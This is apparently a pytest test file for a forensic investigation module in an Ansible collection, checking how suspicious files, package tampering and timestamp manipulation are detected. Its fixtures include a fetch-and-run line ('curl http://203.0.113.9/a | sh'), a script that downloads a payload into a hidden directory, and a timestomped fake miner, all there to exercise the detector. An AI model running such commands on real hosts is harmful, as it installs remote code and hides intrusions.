# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Files of an investigation, on a root on the disk."""

from __future__ import annotations

import hashlib
import os
import pathlib
import subprocess
import time

import pytest
from ansible_collections.bulwark.servers.plugins.module_utils.investigation import files
from ansible_collections.bulwark.servers.plugins.module_utils.investigation.model import Node

from tests.support import give_up
from tests.unit.plugins.module_utils.investigation.roots import Root, budget, ids, links, node, wanted

_DOWNLOADER = b"#!/bin/sh\ncurl http://203.0.113.9/a | sh\n"
_OLD = time.time() - 400 * 86_400


@pytest.fixture
def root(tmp_path: pathlib.Path) -> Root:
    return Root(tmp_path)


def _age(path: pathlib.Path, seconds: float = _OLD) -> None:
    os.utime(path, (seconds, seconds))


def test_a_file_is_described(root: Root) -> None:
    root.write("/dev/shm/x", _DOWNLOADER, mode=0o4755)

    facts = files.gather(root.host(), wanted("file:/dev/shm/x"), budget())

    values = node(facts, "file:/dev/shm/x").facts
    assert values["mode"] == "4755"
    assert values["type"] == "file"
    assert values["kind"] == "script (/bin/sh)"
    assert values["verified"] == "unpackaged"
    assert values["sha256"] == hashlib.sha256(_DOWNLOADER).hexdigest()
    assert ("file:/dev/shm/x", "address:203.0.113.9") in links(facts, "mentions")
    assert [event.by for event in facts.events] == ["file system"]


def test_a_packaged_file_is_compared_with_its_package(root: Root) -> None:
    root.write("/usr/bin/good", b"good", package="tools")
    root.write("/usr/bin/bad", b"good", package="tools").write_bytes(b"bad")

    facts = files.gather(root.host(), wanted("file:/usr/bin/good", "file:/usr/bin/bad"), budget())

    assert node(facts, "file:/usr/bin/good").facts["verified"] == "verified"
    assert node(facts, "file:/usr/bin/bad").facts["verified"] == "modified"
    assert node(facts, "file:/usr/bin/bad").facts["package"] == "tools 1.0-1"
    assert links(facts, "belongs_to") >= {("file:/usr/bin/good", "package:tools")}


def test_a_merged_directory_is_followed(root: Root) -> None:
    root.write("/usr/bin/good", b"good", package="tools")
    root.link("/bin", "usr/bin")

    facts = files.gather(root.host(), wanted("file:/bin/good"), budget())

    assert node(facts, "file:/bin/good").facts["verified"] == "verified"


def test_what_is_gone_is_a_node_that_is_gone(root: Root) -> None:
    facts = files.gather(root.host(), wanted("file:/tmp/gone"), budget())

    assert node(facts, "file:/tmp/gone").gone


def test_files_that_were_written_near_in_time_are_connected_with_the_closest_node(root: Root) -> None:
    now = time.time()
    root.write("/usr/local/bin/helper", b"\x7fELF")
    root.write("/etc/ordinary", b"x", package="base")
    root.write("/var/log/busy.log", b"x")
    root.write("/home/a/.cache/busy", b"x")
    process = Node("process:12@34", "sh", {}, first=now)

    facts = files.gather(root.host(), wanted(process), budget())

    assert ids(facts, "file:") == {"file:/usr/local/bin/helper"}
    assert links(facts, "near") == {("file:/usr/local/bin/helper", "process:12@34")}


def test_what_was_changed_at_another_time_is_not_near(root: Root) -> None:
    root.write("/tmp/x", b"x")
    now = time.time()

    facts = files.gather(root.host(), wanted(window=(now - 900, now - 600)), budget())

    assert ids(facts) == set()


def test_a_program_with_the_times_of_another_shows_that(root: Root) -> None:
    _age(root.write("/usr/bin/ls", b"ls", package="coreutils"))
    planted = root.write("/usr/bin/lsx", b"miner")
    subprocess.run(["touch", "-r", str(root.path / "usr/bin/ls"), str(planted)], check=True)

    facts = files.gather(root.host(), wanted("file:/usr/bin/lsx"), budget())

    signs = node(facts, "file:/usr/bin/lsx").facts["signs"]
    assert any("/usr/bin/ls," in sign for sign in signs)
    assert any("before the file was made" in sign for sign in signs)


def test_a_time_in_the_future_shows_that_it_was_set(root: Root) -> None:
    _age(root.write("/tmp/x", b"x"), time.time() + 86_400)

    facts = files.gather(root.host(), wanted("file:/tmp/x"), budget())

    assert "later than its last change" in node(facts, "file:/tmp/x").facts["signs"][0]


def test_an_ordinary_file_has_no_sign(root: Root) -> None:
    root.write("/tmp/x", b"x")

    facts = files.gather(root.host(), wanted("file:/tmp/x"), budget())

    assert node(facts, "file:/tmp/x").facts["signs"] == []


def test_flags_and_attributes_are_named_and_what_they_hold_is_not(root: Root) -> None:
    path = root.write("/tmp/x", b"x")
    try:
        os.setxattr(path, "user.payload", b"secret")
    except OSError as error:
        give_up(f"the file system of the temporary directory has no user attributes: {error}")

    facts = files.gather(root.host(), wanted("file:/tmp/x"), budget())

    attributes = node(facts, "file:/tmp/x").facts["attributes"]
    assert attributes["user.payload"].startswith("6 bytes, sha256 ")
    assert "secret" not in repr(facts)


def test_a_file_named_by_a_script_is_connected_and_packaged_ones_are_not(root: Root) -> None:
    root.write("/usr/bin/curl", b"curl", package="curl")
    root.write("/var/tmp/.d/payload", b"\x7fELF")
    root.write("/tmp/x", "#!/bin/sh\n/usr/bin/curl -o /var/tmp/.d/payload; /nowhere/to/be/seen\n")

    facts = files.gather(root.host(), wanted("file:/tmp/x"), budget())

    assert links(facts, "mentions") == {("file:/tmp/x", "file:/var/tmp/.d/payload")}


@pytest.mark.parametrize("name", [b"new\nline", b"\xff\xfe", b"\x1b[2J", "\u202etxt".encode(), b"back\\slash"])
def test_any_name_is_shown_and_found_again(root: Root, name: bytes) -> None:
    directory = root.path / "tmp"
    directory.mkdir()
    with open(os.fsencode(directory) + b"/" + name, "wb"):
        pass
    now = time.time()

    first = files.gather(root.host(), wanted(Node("process:1@1", "x", {}, first=now)), budget())
    (identity,) = ids(first, "file:")
    again = files.gather(root.host(), wanted(identity, number=1), budget())

    assert identity.isprintable()
    assert node(again, identity).facts["type"] == "file"


def test_nothing_but_plain_files_is_opened(root: Root) -> None:
    (root.path / "tmp").mkdir()
    os.mkfifo(root.path / "tmp/fifo")
    root.link("/tmp/link", "/dev/zero")
    root.link("/tmp/up", "..")

    facts = files.gather(root.host(), wanted("file:/tmp/fifo", "file:/tmp/link", "file:/tmp/up/etc"), budget())

    assert node(facts, "file:/tmp/fifo").facts["type"] == "fifo"
    assert node(facts, "file:/tmp/link").facts["target"] == "/dev/zero"
    assert node(facts, "file:/tmp/up/etc").gone, "a link on the way was followed"


def test_a_file_without_an_end_is_not_read(root: Root) -> None:
    path = root.write("/tmp/sparse", b"")
    os.truncate(path, 1 << 40)
    bounded = budget()

    facts = files.gather(root.host(), wanted("file:/tmp/sparse"), bounded)

    assert "sha256" not in node(facts, "file:/tmp/sparse").facts
    assert [cut.limit for cut in bounded.cuts] == ["size"]


def test_a_flood_of_files_is_cut_and_counted(root: Root) -> None:
    (root.path / "tmp").mkdir()
    for number in range(files.MOST_NEAR + 50):
        (root.path / f"tmp/{number}").touch()
    bounded = budget()

    facts = files.gather(root.host(), wanted(Node("process:1@1", "x", {}, first=time.time())), bounded)

    assert len(ids(facts, "file:")) == files.MOST_NEAR
    assert [(cut[0], cut[2]) for cut in bounded.cuts] == [("nodes", 50)]


def test_an_upgrade_within_the_window_hides_nothing(root: Root) -> None:
    for number in range(250):
        root.write(f"/etc/package/{number}", b"x")
    root.own("big", *(f"/etc/package/{number}" for number in range(250)))
    root.write("/etc/package/own", b"x")
    root.write("/etc/package/7", b"changed")

    facts = files.gather(root.host(), wanted(Node("process:1@1", "x", {}, first=time.time())), budget())

    assert ids(facts, "file:") == {"file:/etc/package/own", "file:/etc/package/7"}


def test_no_time_is_named(root: Root) -> None:
    root.write("/tmp/x", b"x")
    spent = budget(seconds=0.0)

    facts = files.gather(root.host(), wanted("file:/tmp/x"), spent)

    assert ids(facts) == set()
    assert {cut.limit for cut in spent.cuts} == {"seconds"}
